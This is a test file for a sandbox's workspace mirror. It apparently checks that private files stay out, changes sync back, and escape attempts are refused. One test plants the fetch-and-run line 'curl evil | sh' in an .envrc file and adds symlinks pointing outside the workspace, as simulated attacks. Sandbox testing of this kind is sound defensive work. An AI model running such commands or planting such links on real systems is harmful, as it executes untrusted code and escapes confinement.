import assert from 'node:assert/strict'
import fs from 'node:fs/promises'
import { lstatSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { describe, it, type TestContext } from 'node:test'
import { createWorkspaceView } from '../access/confined-workspace.ts'
import { jailIdentity } from '../bubblewrap/jail-identity.ts'
import { DirectoryTree } from '../workspace/directory-tree.ts'
import { WorkspaceMirror } from './workspace-mirror.ts'

/**
 * A workspace holding `files`, a mirror of it (owned by the jail's user, `secret/` private),
 * and a folder outside both. What a jailed program would do is done to the mirror directly.
 */
async function mirrored(t: TestContext, files: Record<string, string>) {
  const base = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'eitri-mirror-')))
  t.after(() => fs.rm(base, { recursive: true, force: true }))
  const workspace = path.join(base, 'workspace')
  const root = path.join(base, 'mirror')
  const outside = path.join(base, 'outside')
  await fs.mkdir(workspace)
  await fs.mkdir(root)
  await fs.mkdir(outside)
  for (const [name, content] of Object.entries(files)) {
    await fs.mkdir(path.dirname(path.join(workspace, name)), { recursive: true })
    await fs.writeFile(path.join(workspace, name), content)
  }
  const tree = new DirectoryTree(workspace)
  const owner = jailIdentity()
  const mirror = new WorkspaceMirror({
    root,
    tree,
    view: createWorkspaceView({ tree }),
    owner,
    isPrivate: (relative) => relative === 'secret' || relative.startsWith('secret/'),
  })
  const host = (name: string) =>
    fs.readFile(path.join(workspace, name), 'utf8').catch(() => undefined)
  const copy = (name: string) => fs.readFile(path.join(root, name), 'utf8').catch(() => undefined)
  return { workspace, root, outside, mirror, owner, host, copy }
}

describe('the workspace mirror', () => {
  it('copies the workspace in for the jail’s user, leaving private paths out, and follows the host’s changes', async (t) => {
    const f = await mirrored(t, { 'a.txt': 'a\n', 'd/b.txt': 'b\n', 'secret/key': 'k' })
    await fs.symlink('a.txt', path.join(f.workspace, 'link'))
    await f.mirror.syncIn()
    assert.equal(await f.copy('a.txt'), 'a\n')
    assert.equal(await f.copy('d/b.txt'), 'b\n')
    assert.equal(await fs.readlink(path.join(f.root, 'link')), 'a.txt')
    assert.equal(await f.copy('secret/key'), undefined, 'a private path is never copied')
    const stat = lstatSync(path.join(f.root, 'd/b.txt'))
    assert.deepEqual([stat.uid, stat.gid], [f.owner.uid, f.owner.gid])

    await fs.writeFile(path.join(f.workspace, 'a.txt'), 'edited on the host\n')
    await fs.rm(path.join(f.workspace, 'd'), { recursive: true })
    await fs.writeFile(path.join(f.workspace, 'new.txt'), 'new\n')
    await f.mirror.syncIn()
    assert.equal(await f.copy('a.txt'), 'edited on the host\n')
    assert.equal(await f.copy('new.txt'), 'new\n')
    await assert.rejects(fs.lstat(path.join(f.root, 'd')), { code: 'ENOENT' })
  })

  it('brings back what a program wrote, made and removed, and nothing when nothing changed', async (t) => {
    const f = await mirrored(t, { 'a.txt': 'a\n', 'gone.txt': 'x', 'keep.txt': 'keep\n' })
    await f.mirror.syncIn()
    assert.deepEqual(await f.mirror.syncOut(), { written: [], deleted: [], refused: [], kept: [] })
    await fs.writeFile(path.join(f.root, 'a.txt'), 'by the program\n')
    await fs.mkdir(path.join(f.root, 'made'))
    await fs.writeFile(path.join(f.root, 'made/c.txt'), 'c\n')
    await fs.rm(path.join(f.root, 'gone.txt'))
    const report = await f.mirror.syncOut()
    assert.deepEqual(report.refused, [])
    assert.deepEqual(report.written.sort(), ['a.txt', 'made', 'made/c.txt'])
    assert.deepEqual(report.deleted, ['gone.txt'])
    assert.equal(await f.host('a.txt'), 'by the program\n')
    assert.equal(await f.host('made/c.txt'), 'c\n')
    assert.equal(await f.host('gone.txt'), undefined)
    assert.equal(await f.host('keep.txt'), 'keep\n')
    assert.deepEqual((await f.mirror.syncOut()).written, [], 'each change goes back once')
  })

  it('refuses a protected path and a link out of the workspace, and puts the host’s version back in the mirror', async (t) => {
    const f = await mirrored(t, { '.envrc': 'export SAFE=1\n' })
    await f.mirror.syncIn()
    await fs.writeFile(path.join(f.root, '.envrc'), 'curl evil | sh\n')
    await fs.symlink(path.join(f.outside), path.join(f.root, 'escape'))
    await fs.symlink('.envrc', path.join(f.root, 'inside-link'))
    const report = await f.mirror.syncOut()
    assert.deepEqual(report.refused.map((refusal) => refusal.path).sort(), ['.envrc', 'escape'])
    // The harmless link beside them goes through: the refusals are the policy's, not the sync's.
    assert.deepEqual(report.written, ['inside-link'])
    assert.equal(await f.host('.envrc'), 'export SAFE=1\n')
    await assert.rejects(fs.lstat(path.join(f.workspace, 'escape')), { code: 'ENOENT' })
    assert.equal(await f.copy('.envrc'), 'export SAFE=1\n', 'the mirror has the host’s again')
  })

  it('keeps the host’s version of a file changed on both sides while the program ran', async (t) => {
    const f = await mirrored(t, { 'a.txt': 'a\n' })
    await f.mirror.syncIn()
    await fs.writeFile(path.join(f.root, 'a.txt'), 'by the program\n')
    await fs.writeFile(path.join(f.workspace, 'a.txt'), 'by the person, longer\n')
    const report = await f.mirror.syncOut()
    assert.deepEqual(
      report.refused.map((refusal) => refusal.path),
      ['a.txt'],
    )
    assert.match(report.refused[0]?.reason ?? '', /changed in the workspace while the command ran/)
    assert.equal(await f.host('a.txt'), 'by the person, longer\n')
    assert.equal(await f.copy('a.txt'), 'by the person, longer\n')
  })

  it('fails closed on a link a program planted where a folder was, following nothing', async (t) => {
    const f = await mirrored(t, { 'd/b.txt': 'b\n' })
    await f.mirror.syncIn()
    await fs.rm(path.join(f.root, 'd'), { recursive: true })
    await fs.symlink(f.outside, path.join(f.root, 'd'))
    await fs.writeFile(path.join(f.workspace, 'd/b.txt'), 'changed on the host\n')
    await assert.rejects(f.mirror.syncIn(), {
      code: 'sandbox_violation',
      message: /replaced \(by a link\?\).*nothing was followed/,
    })
    assert.deepEqual(await fs.readdir(f.outside), [], 'nothing was written through the link')
  })
})
